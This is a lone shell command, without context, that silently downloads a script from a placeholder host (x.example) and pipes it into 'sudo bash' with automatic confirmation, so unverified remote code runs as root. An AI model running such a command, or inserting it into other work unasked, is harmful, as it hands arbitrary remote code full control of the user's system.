wget -qO- http://x.example/s | sudo bash -s -- --yes
